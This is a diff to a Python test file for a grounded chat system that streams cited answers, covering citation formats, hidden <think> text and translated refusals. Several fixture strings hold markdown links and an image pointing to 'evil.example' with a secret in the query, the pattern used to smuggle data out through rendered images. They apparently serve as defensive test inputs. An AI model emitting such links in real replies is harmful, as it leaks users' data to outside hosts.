@@ -25,6 +25,9 @@ LINKS = (
     "A dog <!-- secret [9] --> runs [1].",
     "A `dog` costs $5 [9], and 3 < 4 [1, 9] (or so) [9]. Wow! [2][1](https://evil.example/?q=secret) Yes!",
     "[9] A dog runs [1][9]. It is ![1] here: [1]: no.",
+    "A dog [1 and 9] runs. And a cat [1, 9] too, [1、9]",
+    "Use `<div class>` here [1]. See $x <y z$ ok, and \\(a <b c\\) [1]",
+    "So ![a b](https://evil.example/?q=secret) A dog [1]",
 )
 
 
@@ -118,6 +121,24 @@ def test_a_weak_model_s_pieces_are_a_draft(tmp_path: Path) -> None:
     tokens, answer = streamed(tmp_path, "It won a prize [1].", "strict", fallback="quote")
     assert {token.final for token in tokens} == {False}
     assert answer.quoted
+
+
+def test_what_a_model_thought_is_not_streamed_and_nothing_twice(tmp_path: Path) -> None:
+    for seed in range(5):
+        tokens, answer = streamed(tmp_path, "<think>Hm, a dog?</think>\n A dog runs [1].", "mark", seed)
+        assert answer.text == "A dog runs [1]."
+        assert "".join(token.text for token in tokens) == answer.text
+
+
+def test_a_refusal_is_streamed_in_its_translation_alone(tmp_path: Path) -> None:
+    said = "Nichts in der Sammlung beantwortet das"
+    chat = GroundedChat(collection(tmp_path), Scripted(replies=[REFUSAL, said]), ChatOptions())
+    events = list(chat.stream("Was macht der Hund auf dem roten Strand?"))
+    final = events[-1]
+    assert isinstance(final, Final)
+    assert final.answer.text == said
+    told = "".join(event.text for event in events if isinstance(event, Token))
+    assert told in ("", said)
 
 
 def test_a_long_reply_takes_no_time_without_end(tmp_path: Path) -> None:
